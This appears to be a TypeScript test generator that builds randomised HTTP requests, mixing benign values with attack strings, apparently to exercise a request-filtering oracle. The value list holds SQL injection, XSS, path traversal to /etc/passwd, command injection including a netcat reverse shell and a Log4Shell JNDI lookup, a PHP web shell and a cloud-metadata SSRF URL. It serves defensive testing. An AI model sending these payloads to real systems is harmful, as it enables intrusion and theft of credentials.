import type { Question } from './oracle.ts'

/** Values of all kinds: what attackers send, what people write, what is odd. */
const values = [
  "1' OR '1'='1",
  '1 UNION ALL SELECT NULL,version()--',
  "admin'--",
  '1;DROP TABLE users',
  "' AND SLEEP(5)#",
  '1 or 1=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '<a href="x">y</a>',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '/etc/shadow',
  'C:\\windows\\system32\\cmd.exe',
  'file:///etc/passwd',
  '; cat /etc/passwd',
  '$(id)',
  '`whoami`',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '&& ping -c 1 evil.example',
  '${jndi:ldap://evil/a}',
  '<?php system($_GET[0]); ?>',
  'php://input',
  'data:text/plain;base64,AAAA',
  '{{7*7}}',
  '__proto__',
  '${7*7}',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1/admin',
  'gopher://x',
  'java.lang.Runtime',
  '() { :; }; echo x',
  '%0d%0aSet-Cookie: a=b',
  'a\r\nb',
  'x\x00y',
  '\xc0\xae\xc0\xae/',
  '%u0041%u0042',
  '\\u003cscript\\u003e',
  '&#60;script&#62;',
  'blue shoes',
  "O'Brien",
  'anna@example.com',
  '42',
  '',
  '2026-01-02T03:04:05Z',
  'a-b_c.d',
  'Please select one of the options below.',
  'union jack and a table',
  'the cat sat on the mat; it was raining',
  'x=1&y=2',
  '50% off!',
  'C++ and C#',
  '{"a":1}',
  '[1,2,3]',
  'über',
  'https://shop.example/cart?id=1',
  '0b5a1a3e-8c3b-4d7e-9f10-1c2d3e4f5a6b',
  'a,b,c',
  '(1+2)*3',
  'SELECT',
  'from here to there',
  '#tag',
] as const
const names = [
  'id',
  'q',
  'user[name]',
  'a.b',
  'file',
  'cmd',
  'x-y',
  'json.a',
  'page',
  'select',
  "na'me",
  '$x',
  '_method',
] as const

/** Chance that is the same each time (mulberry32), so that a failure can be run again. */
const chanceFrom = (seed: number) => {
  let state = seed
  return (below: number): number => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below
  }
}

const encode = (text: string): string =>
  text.replace(/[^A-Za-z0-9._-]/g, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`)

/** Requests of all shapes with those values in all places. */
export const generateRequests = (count: number, seed: number): readonly Question[] => {
  const chance = chanceFrom(seed)
  const pick = <T>(list: readonly T[]): T => list[chance(list.length)] as T
  const pairs = () =>
    Array.from({ length: 1 + chance(3) }, () => [pick(names), pick(values)] as const)
  const form = () =>
    pairs()
      .map(([name, value]) => `${encode(name)}=${encode(value)}`)
      .join('&')
  const headerSafe = (text: string) => text.replace(/[\r\n\0]/g, '')
  const base = () => [
    'Host',
    'shop.example',
    'Accept',
    '*/*',
    'User-Agent',
    chance(6) === 0 ? headerSafe(pick(values)) || 'x' : 'Mozilla/5.0 (X11; Linux x86_64)',
  ]
  const kinds = [
    (): Question => ({ method: 'GET', target: `/shop?${form()}`, headers: base() }),
    (): Question => ({ method: 'GET', target: `/${encode(pick(values))}?a=1`, headers: base() }),
    (): Question => ({
      method: 'GET',
      target: '/',
      headers: [...base(), 'Cookie', `a=${headerSafe(pick(values))}`],
    }),
    (): Question => ({
      method: 'GET',
      target: '/',
      headers: [...base(), 'Referer', headerSafe(pick(values)) || 'x'],
    }),
    (): Question => body('application/x-www-form-urlencoded', form()),
    (): Question => body('application/json', JSON.stringify(Object.fromEntries(pairs()))),
    (): Question =>
      body('application/json', JSON.stringify({ list: pairs().map(([, value]) => value) })),
  ]
  const body = (type: string, text: string): Question => ({
    method: 'POST',
    target: '/form',
    headers: [...base(), 'Content-Type', type, 'Content-Length', String(Buffer.byteLength(text))],
    body: Buffer.from(text).toString('latin1'),
  })
  return Array.from({ length: count }, () => pick(kinds)())
}
